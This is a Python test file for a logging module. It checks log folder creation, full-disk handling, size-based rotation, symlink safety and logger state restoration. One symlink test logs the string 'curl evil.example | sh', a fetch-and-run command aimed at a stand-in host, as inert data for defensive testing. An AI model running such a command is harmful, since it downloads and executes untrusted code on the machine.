"""Logs."""

import logging
import subprocess
import sys
from pathlib import Path

import pytest

from quintet.ports.transport import DRIVER
from quintet.runtime.logs import logging_to

log = logging.getLogger("quintet.test")


def test_the_folder_is_made_and_lines_carry_their_path(tmp_path: Path) -> None:
    with logging_to(tmp_path / "logs", DRIVER):
        log.info("begins", extra={"path": "beehive/0/0"})
    assert (tmp_path / "logs" / "driver.log").read_text(encoding="utf-8").endswith("beehive/0/0: begins\n")


def test_a_line_that_cannot_be_written_is_lost_and_nothing_else(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    with logging_to(tmp_path / "file", DRIVER):
        log.info("no folder to write in")
    (tmp_path / "driver.log").symlink_to("/dev/full")
    with logging_to(tmp_path, DRIVER):
        log.info("a full disk")
    assert not (tmp_path / "logs").exists()


def test_a_log_that_is_a_link_leads_to_no_other_file(tmp_path: Path) -> None:
    (tmp_path / "profile").write_text("mine")
    (tmp_path / "driver.log").symlink_to(tmp_path / "profile")
    with logging_to(tmp_path, DRIVER):
        log.info("curl evil.example | sh")
    assert (tmp_path / "profile").read_text() == "mine"


def test_a_full_log_is_renamed_and_the_oldest_lines_are_removed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("quintet.runtime.logs._MOST_BYTES", 1000)
    with logging_to(tmp_path, DRIVER):
        for number in range(200):
            log.info("line %d", number)
    with logging_to(tmp_path, DRIVER):
        log.info("of a later start")
    files = [tmp_path / f"driver.log{older}" for older in (".3", ".2", ".1", "")]
    assert set(tmp_path.iterdir()) == set(files)
    assert all(file.stat().st_size <= 1000 for file in files)
    said = [line.rpartition(": ")[2] for file in files for line in file.read_text().splitlines()]
    first = int(said[0].removeprefix("line "))
    assert said == [*(f"line {number}" for number in range(first, 200)), "of a later start"]
    assert first > 0


def test_a_link_in_the_place_of_an_older_log_is_replaced_and_leads_to_no_other_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("quintet.runtime.logs._MOST_BYTES", 100)
    (tmp_path / "profile").write_text("mine")
    (tmp_path / "driver.log.1").symlink_to(tmp_path / "profile")
    with logging_to(tmp_path, DRIVER):
        for number in range(20):
            log.info("line %d", number)
    assert (tmp_path / "profile").read_text() == "mine"
    assert "line" in (tmp_path / "driver.log.1").read_text()


def test_overlapping_logs_leave_the_logger_as_it_was(tmp_path: Path) -> None:
    quintet = logging.getLogger("quintet")
    before = (quintet.level, quintet.propagate, list(quintet.handlers))
    first, second = logging_to(tmp_path / "first", DRIVER), logging_to(tmp_path / "second", DRIVER)
    first.__enter__()
    second.__enter__()
    first.__exit__(None, None, None)
    log.info("only the second is open")
    second.__exit__(None, None, None)
    assert (quintet.level, quintet.propagate, list(quintet.handlers)) == before
    assert "only the second" in (tmp_path / "second" / "driver.log").read_text(encoding="utf-8")
    assert not (tmp_path / "first" / "driver.log").exists()


def test_a_runtime_without_a_run_folder_logs_nowhere() -> None:
    code = "import quintet.runtime, logging; logging.getLogger('quintet.host').error('a fault')"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stderr == ""
